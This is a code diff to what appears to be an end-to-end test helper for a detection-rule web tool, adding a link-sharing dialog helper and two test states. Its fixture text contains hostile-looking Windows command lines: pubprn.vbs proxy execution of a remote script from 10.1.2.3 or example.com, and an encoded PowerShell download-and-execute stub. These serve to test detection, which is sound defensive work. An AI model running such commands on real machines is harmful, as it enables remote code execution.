@@ -74,6 +74,12 @@ export async function openRules(page) {
   await page.getByRole('navigation', { name: 'Views' }).getByRole('link', { name: 'Rules' }).click();
 }
 
+/** Opens the dialog that makes a link. */
+export async function share(page) {
+  await page.getByRole('button', { name: 'Share' }).click();
+  await page.getByRole('textbox', { name: /^Link/ }).waitFor();
+}
+
 /** Begins a rule of one's own, in the view of rules. */
 export async function writeRule(page, source) {
   await openRules(page);
@@ -117,6 +123,28 @@ detection:
 
 export const states = [
   { name: 'start', reach: async () => {} },
+  {
+    name: 'share',
+    reach: async (page) => {
+      await paste(page, 'cscript C:\\Users\\mjones\\pubprn.vbs \\\\FILESRV01\\x script:http://10.1.2.3/a\npowershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA');
+      await share(page);
+      await page.getByLabel(/^Events, with labels/).check();
+      await page.getByText('user1').waitFor();
+    },
+  },
+  {
+    name: 'shared-work',
+    reach: async (page) => {
+      await paste(page, 'cscript C:\\pubprn.vbs script:https://example.com/a\nipconfig');
+      await share(page);
+      await page.getByLabel(/^Events, with labels/).check();
+      await page.getByText('No names were found').waitFor();
+      const address = await page.getByRole('textbox', { name: /^Link/ }).inputValue();
+      await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
+      await page.goto(address);
+      await page.getByRole('button', { name: 'Open it' }).waitFor();
+    },
+  },
   { name: 'sample', reach: (page) => sample(page, 'First look') },
   {
     name: 'match',
